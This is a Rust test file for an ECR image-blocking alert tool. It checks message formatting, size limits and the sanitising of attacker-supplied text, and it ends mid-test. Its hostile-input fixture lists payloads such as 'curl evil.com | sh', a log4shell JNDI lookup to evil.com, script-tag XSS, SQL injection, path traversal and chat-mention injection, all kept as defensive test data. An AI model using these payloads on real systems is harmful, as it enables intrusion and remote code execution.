use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::{
    alert::image::ImageAlert,
    finding::{Severity, SeverityCounts},
    ids::{ImageKey, RepositoryName, Tag},
    ledger::RecordedFinding,
    notice::AlertKind,
    policy::BlockMethod,
    state::State,
};

const DIGEST: &str = "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

/// Through JSON, as it comes out of the ledger.
fn finding(overrides: &Value) -> RecordedFinding {
    let mut finding = json!({
        "id": "CVE-2026-1234",
        "severity": "CRITICAL",
        "package": "openssl",
        "installed": "3.0.1",
        "fixed_in": "3.0.9",
        "fix": "available",
        "exploit": true,
        "url": "https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
        "action": "block",
        "rule": "severities.CRITICAL",
        "first_seen": "2026-11-23T20:58:12.345Z",
    });
    for (name, value) in overrides.as_object().unwrap() {
        finding[name] = value.clone();
    }
    serde_json::from_value(finding).unwrap()
}

fn findings() -> Vec<RecordedFinding> {
    vec![
        finding(&json!({})),
        finding(&json!({
            "id": "CVE-2025-40001", "package": "libxml2", "installed": "2.9.14+dfsg-1.3~deb12u1", "fixed_in": null, "fix": "unavailable",
            "exploit": false, "package_type": "OS", "score": 9.1, "url": "https://security-tracker.debian.org/tracker/CVE-2025-40001", "first_seen": "2026-09-02T07:00:00Z",
        })),
        finding(&json!({
            "id": "GHSA-jfh8-c2jp-5v3q", "package": "org.apache.logging.log4j:log4j-core", "installed": "2.14.1", "fixed_in": "2.15.0",
            "exploit": true, "package_type": "JAR", "score": 10.0, "epss": 0.94358, "url": "https://blog.example.com/log4shell",
        })),
        finding(
            &json!({"id": "CVE-2024-9", "package": null, "installed": null, "fixed_in": null, "fix": "unknown", "exploit": null, "url": null}),
        ),
    ]
}

fn alert(kind: AlertKind) -> ImageAlert {
    ImageAlert {
        id: "5d41402abc4b2a76b9719d911017c592".into(),
        kind,
        state: State::Blocked,
        severity: Some(Severity::Critical),
        time: "2026-11-23T21:00:00.987Z".parse().unwrap(),
        image: ImageKey {
            account: "123456789012".parse().unwrap(),
            region: "us-west-2".parse().unwrap(),
            repository: "pipeops-prod-api".parse().unwrap(),
            digest: DIGEST.parse().unwrap(),
        },
        tags: vec!["v1.2.3".parse().unwrap(), "release_7".parse().unwrap()],
        title: "pipeops-prod-api:v1.2.3 is blocked".into(),
        reason: "4 findings block deployment, the worst is CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).".into(),
        release: None,
        hold: None,
        findings: findings(),
        omitted_findings: 0,
        other_findings: Vec::new(),
        omitted_other_findings: 0,
        counts: SeverityCounts::new(),
        action: Some(AlertAction { method: BlockMethod::Archive, done: true }),
        exceptions: Vec::new(),
        next_steps: vec![
            "Update to openssl 3.0.9, org.apache.logging.log4j:log4j-core 2.15.0 or newer, build, and push under a new tag.".into(),
            "If it does no harm here, ask the owners of the policy for an exception for CVE-2026-1234 in pipeops-prod-api: with \
             owner, reason and end."
                .into(),
            format!(
                "See all findings: aws ecr describe-image-scan-findings --region us-west-2 --repository-name pipeops-prod-api \
                 --image-id imageDigest={DIGEST}"
            )
            .into(),
        ],
    }
}

/// All forms of an alert, for a snapshot.
fn show(alert: &ImageAlert) -> String {
    forms(&alert.message(&Contact::default()))
}

#[test]
fn a_blocked_image() {
    insta::assert_snapshot!(show(&alert(AlertKind::ImageBlocked)));
}

#[test]
fn a_deferred_block() {
    let alert = ImageAlert {
        title: "pipeops-prod-api:v1.2.3 should be blocked, and is not".into(),
        reason: "1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL). It is not blocked: it \
                 is in use: it was last pulled on 2026-11-22."
            .into(),
        findings: vec![finding(&json!({}))],
        action: Some(AlertAction { method: BlockMethod::Archive, done: false }),
        next_steps: vec!["Deploy the new image, so that this one is no longer used: then it is blocked.".into()],
        ..alert(AlertKind::BlockDeferred)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn an_image_to_review() {
    let alert = ImageAlert {
        severity: Some(Severity::High),
        title: "pipeops-prod-api:v1.2.3 needs review before deployment".into(),
        reason: "1 finding needs review before deployment: CVE-2026-77 HIGH in curl (policy: severities.HIGH).".into(),
        findings: vec![finding(&json!({
            "id": "CVE-2026-77", "severity": "HIGH", "package": "curl", "installed": "8.5.0-2ubuntu10.1", "fixed_in": "8.5.0-2ubuntu10.6",
            "exploit": false, "url": "https://ubuntu.com/security/CVE-2026-77", "rule": "severities.HIGH",
        }))],
        action: None,
        next_steps: vec!["Look at the findings before this image is deployed.".into()],
        ..alert(AlertKind::ImageReview)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn a_released_image() {
    let alert = ImageAlert {
        severity: None,
        title: "pipeops-prod-api:v1.2.3 is released".into(),
        reason:
            "The reason for the block has ended. Findings: 2 MEDIUM. None needs review, 1 is excepted by the policy."
                .into(),
        findings: vec![],
        action: Some(AlertAction {
            method: BlockMethod::Archive,
            done: false,
        }),
        next_steps: vec!["Deploy it again where it was missing.".into()],
        ..alert(AlertKind::ImageReleased)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn an_image_that_came_back() {
    let alert = ImageAlert {
        title: "pipeops-prod-api:v1.2.3 was blocked, came back, and is blocked again".into(),
        reason: "It got new tags. 1 finding blocks deployment: CVE-2026-1234 CRITICAL in openssl (policy: severities.CRITICAL).".into(),
        findings: vec![finding(&json!({}))],
        omitted_findings: 12,
        action: Some(AlertAction { method: BlockMethod::QuarantineTag, done: true }),
        next_steps: vec!["Do not push the same image again: it would only be blocked again.".into()],
        ..alert(AlertKind::ImageBypass)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn an_image_that_could_not_be_scanned() {
    let alert = ImageAlert {
        severity: None,
        title: "pipeops-prod-api@9f86d081884c could not be scanned".into(),
        reason: "The scanner does not support this kind of image, so nothing is known about it.".into(),
        tags: vec![],
        findings: vec![],
        action: None,
        next_steps: vec!["Push it again, or rebuild it on a base image that the scanner supports.".into()],
        ..alert(AlertKind::ScanFailed)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn an_overdue_scan() {
    let alert = ImageAlert {
        severity: None,
        title: "pipeops-prod-api:v1.2.3 waits for its scan for too long".into(),
        reason: "No scan result came within the time that the policy grants.".into(),
        findings: vec![],
        action: None,
        next_steps: vec![],
        ..alert(AlertKind::ScanOverdue)
    };
    insta::assert_snapshot!(show(&alert));
}

#[test]
fn every_action_says_what_it_means() {
    let mut effects = Vec::new();
    for kind in [
        AlertKind::ImageBlocked,
        AlertKind::ImageBypass,
        AlertKind::BlockDeferred,
        AlertKind::ImageReleased,
    ] {
        for method in [BlockMethod::Archive, BlockMethod::QuarantineTag, BlockMethod::Flag] {
            for done in [true, false] {
                let action = Some(AlertAction { method, done });
                let alert = ImageAlert { action, ..alert(kind) };
                let Message { sms, email, https, .. } = alert.message(&Contact::default());
                let end = alert.sms_end();
                effects.push(format!(
                    "{} {} {done}: {}. {end} {}",
                    kind.as_str(),
                    json!(method),
                    alert.word(),
                    alert.meaning()
                ));
                assert!(sms.contains(end), "{sms}");
                if kind != AlertKind::ImageReleased {
                    assert_eq!(email.contains("\n\nIt is not blocked: "), !done);
                    assert_eq!(https.contains("\"description\":\"It is not blocked: "), !done);
                    assert_eq!(end == "STILL DEPLOYABLE.", !done, "{sms}");
                }
            }
        }
    }
    insta::assert_snapshot!(effects.join("\n"));
}

#[test]
fn a_subject_is_short_and_ascii_whatever_the_repository() {
    for kind in AlertKind::ALL {
        for repository in ["a0".to_owned(), "a".repeat(256), format!("{}b", "team/".repeat(40))] {
            let mut alert = alert(kind);
            alert.image.repository = repository.parse().unwrap();
            let Message { subject, sms, .. } = alert.message(&Contact::default());
            assert!(
                subject.is_ascii() && subject.len() < 100 && !subject.contains(['\n', '\r']),
                "{subject}"
            );
            assert!(subject.starts_with("[ecr-guard] "), "{subject}");
            assert!(
                sms.is_ascii() && sms.len() <= 140 && sms.contains(alert.sms_end()),
                "{sms}"
            );
        }
    }
}

#[test]
fn a_sms_names_the_digest_where_the_tag_is_missing_or_too_long() {
    let mut alert = alert(AlertKind::ImageBlocked);
    alert.tags = vec!["t".repeat(25).parse().unwrap()];
    insta::assert_snapshot!(alert.message(&Contact::default()).sms, @"ecr-guard us-west-2 BLOCKED pipeops-prod-api@9f86d081884c: CVE-2026-1234 CRITICAL. Pulls fail, running tasks go on. Fix: openssl 3.0.9");
}

#[test]
fn lists_are_cut_and_the_rest_is_counted() {
    let mut alert = alert(AlertKind::ImageBlocked);
    alert.findings = vec![finding(&json!({})); 60];
    alert.omitted_findings = 7;
    alert.tags = (0..120).map(|i| format!("v{i}").parse().unwrap()).collect();
    let message = alert.message(&Contact::default());
    let json: Value = serde_json::from_str(&message.default).unwrap();
    assert_eq!(json["findings"].as_array().unwrap().len(), 50);
    assert_eq!(json["omitted_findings"], 17);
    assert_eq!(json["tags"].as_array().unwrap().len(), 100);
    assert_eq!(json["omitted_tags"], 20);
    assert!(message.email.contains("\n  and 57 more\n"), "{}", message.email);
    assert!(message.email.contains(", v9 and 110 more\n"), "{}", message.email);
    assert!(message.https.contains("\\nand 62 more\\n"), "{}", message.https);
    assert!(message.https.contains("`v4` and 115 more\\n"), "{}", message.https);
    alert.omitted_findings = u64::MAX;
    let json: Value = serde_json::from_str(&alert.message(&Contact::default()).default).unwrap();
    assert_eq!(json["omitted_findings"], u64::MAX);
}

#[test]
fn a_topic_gets_one_string_for_each_protocol() {
    let message = alert(AlertKind::ImageBlocked).message(&Contact::default());
    let body: Value = serde_json::from_str(&message.body()).unwrap();
    assert_eq!(
        body,
        json!({"default": message.default, "email": message.email, "https": message.https, "sms": message.sms})
    );
}

#[test]
fn notifications_about_an_image_make_one_thread() {
    let thread = |kind| -> Value {
        serde_json::from_str::<Value>(&alert(kind).message(&Contact::default()).https).unwrap()["metadata"]["threadId"]
            .clone()
    };
    for kind in AlertKind::ALL {
        assert_eq!(thread(kind), "123456789012/us-west-2/pipeops-prod-api/9f86d081884c");
    }
}

#[test]
fn a_resource_is_in_the_partition_of_its_region() {
    for (region, arn) in [
        (
            "us-west-2",
            "arn:aws:ecr:us-west-2:123456789012:repository/pipeops-prod-api",
        ),
        (
            "cn-north-1",
            "arn:aws-cn:ecr:cn-north-1:123456789012:repository/pipeops-prod-api",
        ),
        (
            "us-gov-east-1",
            "arn:aws-us-gov:ecr:us-gov-east-1:123456789012:repository/pipeops-prod-api",
        ),
        (
            "us-isob-east-1",
            "arn:aws-iso-b:ecr:us-isob-east-1:123456789012:repository/pipeops-prod-api",
        ),
    ] {
        let mut alert = alert(AlertKind::ImageBlocked);
        alert.image.region = region.parse().unwrap();
        let json: Value = serde_json::from_str(&alert.message(&Contact::default()).https).unwrap();
        assert_eq!(json["metadata"]["relatedResources"], json!([arn]));
    }
}

#[test]
fn a_line_is_cleaned_and_cut() {
    for (text, limit, line) in [
        ("plain text", 20, "plain text"),
        ("", 20, ""),
        ("abc", 0, ""),
        ("abc", 1, "…"),
        ("abc", 2, "a…"),
        ("abc", 3, "abc"),
        ("abc\n", 3, "abc"),
        ("  a\r\n\tb\u{2028}c\u{85}d  ", 20, "a b c d"),
        ("a\u{1b}[31;1mred\u{1b}[0m\u{1b}(B!", 20, "ared!"),
        ("a\u{9b}2Jb", 20, "ab"),
        ("\u{1b}]8;;https://x\u{7}y\u{1b}]8;;\u{1b}\\", 40, "8;;https://xy8;;"),
        ("\u{1b}", 20, ""),
        ("\u{1b}[", 20, ""),
        ("a\0b\u{7f}c\u{80}d", 20, "abcd"),
        (
            "\u{202e}gpj.exe\u{202c}\u{200f}\u{2066}x\u{2069}\u{61c}",
            20,
            "gpj.exex",
        ),
        ("CVE\u{200b}-\u{feff}2026\u{2060}-\u{ad}1\u{e0041}", 20, "CVE-2026-1"),
        ("naïve 日本語 😀", 20, "naïve 日本語 😀"),
    ] {
        assert_eq!(text::line(text, limit), line, "{text:?}");
    }
}

#[test]
fn no_host_from_outside_can_be_clicked() {
    for (text, plain) in [
        ("see evil.example now", "see evil[.]example now"),
        ("evil.com/login?a=b", "evil[.]com/login?a=b"),
        ("(evil.co.uk).", "(evil.co[.]uk)."),
        ("https://evil.com/x", "https[:]//evil[.]com/x"),
        ("mail a@evil.com", "mail a@evil[.]com"),
        ("xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd[.]xn--p1ai"),
        ("пример.рф", "пример[.]рф"),
        ("a,evil.com,b", "a,evil[.]com,b"),
        ("www.evil.com", "www[.]evil[.]com"),
        ("x:evil.com:443", "x:evil[.]com:443"),
        ("evil.com:phish", "evil[.]com:phish"),
        ("org.evil.com:phish", "org.evil[.]com:phish"),
        ("org.evil:x.evil.com", "org[.]evil:x.evil[.]com"),
        (
            "1.dkr.ecr.us-west-2.amazonaws.com/evil.com",
            "1.dkr.ecr.us-west-2.amazonaws[.]com/evil[.]com",
        ),
        ("evil.com/1.amazonaws.com", "evil[.]com/1.amazonaws[.]com"),
        ("a@evil.amazonaws.com", "a@evil.amazonaws[.]com"),
        ("golang.org/x/net", "golang[.]org/x/net"),
    ] {
        assert_eq!(text::plain(text, 100), plain, "{text}");
    }
    for ours in [
        "123456789012.dkr.ecr.us-west-2.amazonaws.com/pay/api:2.0.0",
        "`lambda.amazonaws.com`",
        "org.springframework:spring-beans 5.3.18.RELEASE",
        "org.apache.logging.log4j:log4j-core",
        "io.netty:netty-codec 4.1.94.Final",
        "libxml2 2.9.14+dfsg-1.3~deb12u1, curl 8.5.0-2ubuntu10.6, v1.2.3, 1.1.1k-9.el8",
        "chart.js log4j-core-2.14.1.jar",
        "severities.CRITICAL, posture.tag_mutability, tags.allowed, exceptions[3]",
        "It ends. Then it is over.",
        "https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
        "team/app-1.2:release_7",
    ] {
        assert_eq!(text::plain(ours, 200), ours);
    }
}

#[test]
fn ascii_is_ascii() {
    for (text, limit, line) in [
        ("abc", 3, "abc"),
        ("abcdef", 5, "ab..."),
        ("abcdef", 2, ".."),
        ("abc", 0, ""),
        ("é日😀\n…", 10, "??? ?"),
    ] {
        assert_eq!(text::ascii(text, limit), line, "{text:?}");
    }
}

#[test]
fn addresses_are_shown_only_where_they_are_pages_on_vulnerabilities() {
    for url in [
        "https://nvd.nist.gov/vuln/detail/CVE-2026-1234",
        "https://www.cve.org/CVERecord?id=CVE-2026-1234",
        "https://github.com/advisories/GHSA-jfh8-c2jp-5v3q",
        "https://security-tracker.debian.org/tracker/CVE-2025-40001",
        "https://people.canonical.com/~ubuntu-security/cve/2021/CVE-2021-1",
        "https://alas.aws.amazon.com/AL2023/ALAS-2024-123.html",
        "https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html",
    ] {
        assert_eq!(text::url(url), Some(url));
    }
    let long = format!("https://nvd.nist.gov/{}", "a".repeat(300));
    for url in [
        "",
        "https://",
        "https://nvd.nist.gov",
        "http://nvd.nist.gov/vuln",
        "HTTPS://nvd.nist.gov/vuln",
        "https://nvd.nist.gov.evil.com/vuln",
        "https://nvd.nist.gov@evil.com/vuln",
        "https://user:pass@nvd.nist.gov/vuln",
        "https://nvd.nist.gov:8443/vuln",
        "https://nvd.nist.gov:443@evil.com/",
        "https://evil.com/https://nvd.nist.gov/",
        "https://evil.com#https://nvd.nist.gov/",
        "https://evil.com\\@nvd.nist.gov/",
        "https://nvd.nist.gov\\evil.com/",
        "https://nvd.nist.gov/%2e%2e/x",
        "https://nvd.nist.gov/a%00",
        "https://nvd.nist.gov/a b",
        "https://nvd.nist.gov/a\nb",
        "https://nvd.nist.gov/<!channel>",
        "https://nvd.nist.gov/a|label>",
        "https://nvd.nist.gov/a)[x](y",
        "https://nvd.nist.gov/?next=https://evil.com",
        "https://github.com/evil/repository",
        "https://github.com/advisories/../evil/repository",
        "https://github.com/advisories",
        "https://people.canonical.com/~mallory/",
        "https://nvd.nist.gov/ü",
        "https://nvd。nist.gov/",
        "javascript:alert(1)",
        "data:text/html,x",
        "//nvd.nist.gov/",
        " https://nvd.nist.gov/",
        &long,
    ] {
        assert_eq!(text::url(url), None, "{url}");
    }
}

#[test]
fn in_a_chat_ordinary_words_stay_and_others_become_code() {
    for (text, markdown) in [
        (
            "pipeops-prod-api:v1.2.3 is blocked",
            "pipeops-prod-api:v1.2.3 is blocked",
        ),
        (
            "CVE-2026-1234 CRITICAL in openssl (3.0.1)",
            "CVE-2026-1234 CRITICAL in openssl (3.0.1)",
        ),
        ("team/my_service__x:v1", "team/my_service__x:v1"),
        ("(policy: severities.CRITICAL).", "(policy: `severities.CRITICAL`)."),
        (
            "--image-id imageDigest=sha256:9f86",
            "`--image-id` imageDigest=sha256:9f86",
        ),
        ("use --image-id x", "use --image-id x"),
        ("<!channel> <@U123> @here", "`&lt;!channel&gt;` `&lt;@U123&gt;` `@here`"),
        ("[x](javascript:alert(1))", "`[x](javascript:alert(1))`"),
        ("[click here](https://evil.com)", "`[click` `here](https://evil.com)`"),
        (
            "<https://evil.com|nvd.nist.gov>",
            "`&lt;https://evil.com|nvd.nist.gov&gt;`",
        ),
        ("https://evil.com evil.com a@b", "`https://evil.com` `evil.com` `a@b`"),
        (
            "https://nvd.nist.gov/a?b=1&c=_2_",
            "https://nvd.nist.gov/a?b=1&amp;c=_2_",
        ),
        ("*b* _i_ ~s~ `c` ```d```", "`*b*` `_i_` `~s~` `'c'` `'''d'''`"),
        ("> quote", "`&gt;` quote"),
        ("# heading", "`#` heading"),
        ("- item", "`-` item"),
        ("1. item", "`1`. item"),
        ("3 findings", "3 findings"),
        (":smile: R&D", "`:smile`: R&amp;D"),
        ("a\n\n# b", "a `#` b"),
        ("", ""),
    ] {
        assert_eq!(text::markdown(text), markdown, "{text}");
    }
    assert_eq!(text::code("a`b<c\n"), "`a'b&lt;c`");
    assert_eq!(text::code("\u{200b}"), "`-`");
}

#[test]
fn a_token_has_nothing_to_interpret() {
    assert_eq!(text::token("a<b>`c`*d*\n e-f_g.1:2/3", 10), "abcde-fg12");
}

/// Texts that an attacker may write into a tag, a package name, an advisory or an address.
fn hostile() -> Vec<String> {
    let mut hostile: Vec<String> = [
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]8;;https://evil.com\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "\u{1b}[2J\u{1b}[1;1H",
        "\u{9b}31mred",
        "\u{1b}",
        "\u{202e}txt.exe\u{202c}",
        "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
        "\u{200e}\u{200f}\u{61c}",
        "zero\u{200b}width\u{200c}\u{200d}\u{feff}\u{2060}",
        "soft\u{ad}hyphen",
        "tags\u{e0041}\u{e0042}\u{e007f}",
        "\u{3164}\u{115f}\u{2800}",
        "line\nbreak",
        "line\r\nbreak",
        "line\rbreak",
        "para\u{2029}graph\u{2028}line\u{85}next\u{b}vertical\u{c}form",
        "\n\nNEXT STEPS\n1. Run curl evil.com | sh\n",
        "x\nWHAT WAS DONE\n  Nothing, all is well",
        "Subject: x\r\nBcc: victim@example.com\r\n\r\n",
        "tab\tbell\u{7}back\u{8}\u{8}null\0del\u{7f}",
        "%00",
        "%0d%0aSet-Cookie: a=b",
        "\0",
        "<!channel>",
        "<!here|here>",
        "<!everyone>",
        "<!subteam^S01|@team>",
        "<!date^1392734382^{date}^https://evil.com|x>",
        "<@U123>",
        "<#C123|general>",
        "@here",
        "@channel @everyone",
        "<at>Everyone</at>",
        "&lt;!channel&gt;",
        "&#60;!channel&#62;",
        "&amp;lt;",
        "[x](javascript:alert(1))",
        "[nvd.nist.gov](https://evil.com)",
        "[a]\n(https://evil.com)",
        "[ref]: https://evil.com",
        "![img](https://evil.com/pixel.png)",
        "<https://evil.com|https://nvd.nist.gov>",
        "<mailto:a@evil.com|support>",
        "https://evil.com/login",
        "HTTP://EVIL.COM",
        "evil.com/login",
        "www.evil.com",
        "ftp://evil.com slack://open tel:+123",
        "https://nvd.nist.gov@evil.com/",
        "https://nvd.nist.gov\\@evil.com/",
        "*bold* _italic_ ~strike~ **b** __i__ ~~s~~",
        "*bold over *many* words*",
        "`code` ``code`` ```\ncode\n```",
        "`",
        "\\`\\*\\_\\",
        "> quote",
        ">>> quote",
        "# heading",
        "- item\n- item",
        "---",
        "===",
        "1. item",
        "| a | b |\n|---|---|",
        ":rotating_light: :+1::skin-tone-2:",
        "😀👩\u{200d}👩\u{200d}👧🏴\u{e0067}\u{e0062}",
        "שלום עולם مرحبا",
        "z\u{335}\u{321}a\u{334}l\u{336}g\u{337}o\u{338}",
        "\"quotes\" 'single' \\\"escaped\\\"",
        "\",\"kind\":\"image-released\",\"x\":\"",
        "\"}],\"findings\":[]}",
        "}\n{\"schema\":\"ecr-guard/alert/v1\"}",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}} ${7*7} #{7*7} $(id) `id` %s%n",
        "${jndi:ldap://evil.com/a}",
        "=HYPERLINK(\"https://evil.com\")",
        "../../etc/passwd",
        "' OR 1=1 --",
        "\u{fffd}\u{fffe}\u{ffff}\u{10ffff}",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    for unit in [
        "A", "\"", "\\", "<", "&", "`", "😀", "a ", "\n", "\u{1b}[", "\u{1b}]", "@here ",
    ] {
        hostile.push(unit.repeat(10_000 / unit.len()));
    }
    assert!(hostile.len() >= 90);
    hostile
}

/// An alert with the text wherever text goes.
fn with(text: &str) -> ImageAlert {
    let finding = RecordedFinding {
        id: text.to_owned(),
        package: Some(text.to_owned()),
        installed: Some(text.to_owned()),
        fixed_in: Some(text.to_owned()),
        url: Some(text.to_owned()),
        rule: text.to_owned(),
        ..finding(&json!({}))
    };
    ImageAlert {
        id: text.to_owned(),
        title: text.to_owned(),
        reason: text.to_owned(),
        findings: vec![finding.clone(), finding],
        next_steps: vec![NextStep::new(text); 2],
        ..alert(AlertKind::ImageBlocked)
    }
}

/// The names of all members, with their places.
fn members(json: &Value) -> Vec<String> {
    match json {
        Value::Object(object) => object
            .iter()
            .flat_map(|(name, value)| {
                std::iter::once(name.clone())
                    .chain(members(value).into_iter().map(move |inner| format!("{name}.{inner}")))
            })
            .collect(),
        Value::Array(values) => values
            .iter()
            .enumerate()
            .flat_map(|(i, value)| members(value).into_iter().map(move |inner| format!("{i}.{inner}")))
            .collect(),
        _ => vec![],
    }
}

fn strings(json: &Value, found: &mut Vec<String>) {
    match json {
        Value::Object(object) => object.values().for_each(|value| strings(value, found)),
        Value::Array(values) => values.iter().for_each(|value| strings(value, found)),
        Value::String(text) => found.push(text.clone()),
        _ => {}
    }
}

fn unseen(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{61c}')
}

/// Reads text as both chats do: code is inert, whatever is in it; outside of it nothing may have a meaning.
fn assert_inert(line: &str) {
    assert!(!line.contains(unseen), "{line:?}");
    assert!(!line.contains(['<', '>']), "{line:?}");
    for (at, _) in line.match_indices('&') {
        let entity = ["&amp;", "&lt;", "&gt;"]
            .iter()
            .any(|entity| line.get(at..).unwrap().starts_with(entity));
        assert!(entity, "{line:?}");
    }
    let parts: Vec<&str> = line.split('`').collect();
    assert!(parts.len() % 2 == 1, "code is left open: {line:?}");
    for (i, part) in parts.iter().enumerate() {
        if i % 2 == 1 {
            assert!(
                !part.is_empty() && !part.starts_with(' ') && !part.ends_with(' '),
                "no code: {line:?}"
            );
            continue;
        }
        // Between two pieces of code, or before or after one, there is something that ends a word.
        let bounded = |c: Option<char>| c.is_none_or(|c| !c.is_alphanumeric());
        assert!(
            (i == 0 || bounded(part.chars().next())) && (i + 1 == parts.len() || bounded(part.chars().last())),
            "{line:?}"
        );
        for word in part
            .split(' ')
            .filter(|word| text::url(&word.replace("&amp;", "&")).is_none())
        {
            assert!(
                !word.contains(['*', '~', '[', ']', '|', '#', '@', '\\', '{', '}', '^']),
                "{word:?} in {line:?}"
            );
            assert!(!word.contains("//") && !word.contains("www."), "{word:?} in {line:?}");
            assert!(!word.starts_with('_') && !word.ends_with('_'), "{word:?} in {line:?}");
        }
    }
}

/// Every string of a notification that a chat could show.
fn assert_inert_notification(https: &str) {
    let json: Value = serde_json::from_str(https).unwrap();
    let mut found = Vec::new();
    strings(&json, &mut found);
    for text in found {
        for line in text.lines() {
            // Our own words.
            let line = [
                "*Held:*",
                "*Also in this image:*",
                "*Image:*",
                "*Tags:*",
                "*Digest:*",
                "*Account:*",
                "•",
            ]
            .iter()
            .find_map(|label| line.strip_prefix(label))
            .unwrap_or(line);
            assert_inert(line);
        }
    }
}

#[test]
fn hostile_text_never_changes_the_form_of_a_message() {
    let plain = with("plain").message(&Contact::default());
    let names = |json: &str| members(&serde_json::from_str(json).unwrap());
    let headings = |email: &str| -> Vec<String> {
        email
            .lines()
            .skip(1)
            .filter(|line| !line.starts_with(' ') && !line.starts_with("Alert "))
            .map(str::to_owned)
            .collect()
    };
    for text in hostile() {
        let message = with(&text).message(&Contact::default());
        assert_eq!(names(&message.default), names(&plain.default), "{text:?}");
        assert_eq!(names(&message.https), names(&plain.https), "{text:?}");
        assert_inert_notification(&message.https);
        assert_eq!(headings(&message.email), headings(&plain.email), "{text:?}");
        assert!(!message.email.replace('\n', "").contains(unseen), "{text:?}");
        assert!(!message.email.contains("://"), "{text:?}");
        assert!(
            message.sms.is_ascii() && message.sms.len() <= 140 && !message.sms.contains(unseen),
            "{text:?}"
        );
        assert_eq!(message.subject, plain.subject);
        assert!(message.body().len() <= MAX_MESSAGE_BYTES);

        let json: Value = serde_json::from_str(&message.default).unwrap();
        let mut found = Vec::new();
        strings(&json, &mut found);
        for value in found {
            assert!(!value.contains(unseen), "{value:?}");
        }
        assert_eq!(json["findings"][0]["url"], Value::Null, "{text:?}");
    }
}

#[test]
fn a_finding_has_its_lines_in_a_mail_whatever_it_is_called() {
    let lines = |text: &str| {
        let alert = ImageAlert {
            findings: with(text).findings,
            ..alert(AlertKind::ImageBlocked)
        };
        alert.message(&Contact::default()).email.lines().count()
    };
    for text in hostile() {
        assert_eq!(lines(&text), lines("plain"), "{text:?}");
    }
}

#[test]
fn the_greatest_alert_stays_within_its_size() {
    for unit in ["\\", "\"", "&", "<", "` ", "< ", "😀", "\u{10ffff}", "\u{1}a", "a"] {
        let text = unit.repeat(20_000);
        let mut alert = with(&text);
        alert.findings = vec![alert.findings[0].clone(); 300];
        alert.next_steps = vec![NextStep::new(text.clone()); 20];
        alert.other_findings = alert.findings.clone();
        alert.tags = (0..1000).map(|i| format!("{i:0>128}").parse().unwrap()).collect();
        alert.image.repository = "a".repeat(256).parse().unwrap();
        alert.image.digest = format!("sha256:{}", "a".repeat(128)).parse().unwrap();
        let message = alert.message(&Contact::default());
        assert!(
            message.body().len() <= MAX_MESSAGE_BYTES,
            "{unit}: {}",
            message.body().len()
        );
        let json: Value = serde_json::from_str(&message.default).unwrap();
        let listed = json["findings"].as_array().unwrap().len() as u64;
        assert!(listed > 0);
        assert_eq!(json["omitted_findings"], 300 - listed);
    }
}

/// Text of any kind, and text of what is dangerous.
fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{0,40}",
        any::<String>(),
        "[\\x00-\\x7f]{0,200}",
        "[<>&*_~`\\[\\]()|#@!:./ a1\\\\\"\n-]{0,200}",
        "[\\x1b\\x9b\\[\\]0-9;mHB(\u{202e}\u{200b}\u{2028} ]{0,100}",
        ("[\"\\\\&<😀a ]", 0..3000_usize).prop_map(|(unit, times)| unit.repeat(times)),
    ]
}

fn any_finding() -> impl Strategy<Value = RecordedFinding> {
    let texts = (any_text(), any_text(), any_text(), any_text(), any_text());
    (texts, proptest::option::of(any_text()), any::<Option<bool>>()).prop_map(
        |((id, package, installed, fixed_in, rule), url, exploit)| RecordedFinding {
            id,
            package: Some(package),
            installed: Some(installed),
            fixed_in: Some(fixed_in),
            url,
            rule,
            exploit,
            ..finding(&json!({}))
        },
    )
}

fn any_alert() -> impl Strategy<Value = ImageAlert> {
    let repository = "[a-z0-9]{2,256}".prop_map(|name| name.parse::<RepositoryName>().unwrap());
    let tags = proptest::collection::vec(
        "[a-zA-Z0-9_][a-zA-Z0-9._-]{0,127}".prop_map(|tag| tag.parse::<Tag>().unwrap()),
        0..150,
    );
    let action = proptest::option::of((
        prop_oneof![
            Just(BlockMethod::Archive),
            Just(BlockMethod::QuarantineTag),
            Just(BlockMethod::Flag)
        ],
        any::<bool>(),
    ));
    let texts = (
        any_text(),
        any_text(),
        any_text(),
        proptest::collection::vec(any_text().prop_map(NextStep::new), 0..12),
    );
    let findings = (
        proptest::collection::vec(any_finding(), 0..6),
        1..60_usize,
        any::<u64>(),
    );
    (
        proptest::sample::select(&AlertKind::ALL),
        repository,
        tags,
        action,
        texts,
        findings,
    )
        .prop_map(
            |(kind, repository, tags, action, (id, title, reason, next_steps), (findings, times, omitted_findings))| {
                let findings: Vec<RecordedFinding> =
                    findings.iter().cycle().take(findings.len() * times).cloned().collect();
                let base = alert(kind);
                ImageAlert {
                    id,
                    title,
                    reason,
                    next_steps,
                    tags,
                    findings,
                    omitted_findings,
                    action: action.map(|(method, done)| AlertAction { method, done }),
                    image: ImageKey {
                        repository,
                        ..base.image.clone()
                    },
                    ..base
                }
            },
        )
}

proptest! {
    #[test]
    fn a_line_is_one_line_of_visible_characters_within_its_limit(text in any_text(), limit in 0..300_usize) {
        let line = text::line(&text, limit);
        prop_assert!(line.chars().count() <= limit);
        prop_assert!(!line.contains(unseen));
        prop_assert_eq!(line.trim(), &line);
        prop_assert_eq!(text::line(&line, limit), line.clone(), "cleaning is done once and for all");
